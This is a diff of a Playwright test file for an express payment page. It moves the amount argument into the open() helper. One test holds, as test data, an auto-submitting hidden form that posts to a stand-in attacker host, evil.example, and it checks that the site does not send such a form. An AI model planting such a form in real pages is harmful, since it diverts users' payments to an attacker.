@@ -240,8 +240,7 @@ test.describe('express payment', () => {
 
   test('no address makes the site forget a payment that another tab makes', { tag: ALWAYS }, async ({ page, context }) => {
     const pay = paymentOf(page);
-    await pay.open(postpaid.mobileNo);
-    await pay.amount.fill('120');
+    await pay.open(postpaid.mobileNo, '120');
     await pay.agree();
     await expect(pay.clickPay).toBeVisible();
     const sentRecord = () => page.evaluate(() => localStorage.getItem('sent'));
@@ -261,8 +260,7 @@ test.describe('express payment', () => {
     calls,
   }) => {
     const pay = paymentOf(page);
-    await pay.open(postpaid.mobileNo);
-    await pay.amount.fill('120');
+    await pay.open(postpaid.mobileNo, '120');
     await scenario('payByCard', { code: 500 });
     await pay.agree();
     await expect(pay.terms.getByRole('status')).toBeVisible();
@@ -289,8 +287,7 @@ test.describe('express payment', () => {
     let data: object = order;
     await page.route('**/api/vmpay/paynew3d?*', (route) => route.fulfill({ json: { status: '0', data } }));
     const pay = paymentOf(page);
-    await pay.open(postpaid.mobileNo);
-    await pay.amount.fill('75');
+    await pay.open(postpaid.mobileNo, '75');
     expect(await posted(page, '/api/vmpay/paynew3d', () => pay.agree())).toMatchObject({ clientType: 'M' });
     await expect(pay.main.getByText('MOP$7,654.32')).toBeVisible();
     const fact = (term: string) =>
@@ -315,8 +312,7 @@ test.describe('express payment', () => {
 
   test('a wallet form that is not the gateway’s is not sent', { tag: ['@PAY-14'] }, async ({ page }) => {
     const pay = paymentOf(page);
-    await pay.open(postpaid.mobileNo);
-    await pay.amount.fill('120');
+    await pay.open(postpaid.mobileNo, '120');
     await pay.method('alipay').check();
     const html =
       '<form method="post" action="https://evil.example/pay"><input type="hidden" name="a" value="b"></form><script>document.forms[0].submit()</script>';
@@ -329,8 +325,7 @@ test.describe('express payment', () => {
 
   test('amount and checkout of one number are not those of the next', { tag: ALWAYS }, async ({ page }) => {
     const pay = paymentOf(page);
-    await pay.open(postpaid.mobileNo);
-    await pay.amount.fill('77');
+    await pay.open(postpaid.mobileNo, '77');
     await pay.agree();
     await expect(pay.clickPay).toBeVisible();
     await page.goBack();
@@ -348,8 +343,7 @@ test.describe('express payment', () => {
 
   test('the payment terms end where the facts end', { tag: ['@TERMS-07', '@TERMS-01', '@TERMS-02'] }, async ({ page }) => {
     const pay = paymentOf(page);
-    await pay.open(postpaid.mobileNo);
-    await pay.amount.fill('120');
+    await pay.open(postpaid.mobileNo, '120');
     await pay.next.click();
     await expect(pay.terms.getByRole('listitem')).toHaveText([
       '發單日後 14 天內須繳清款項。',
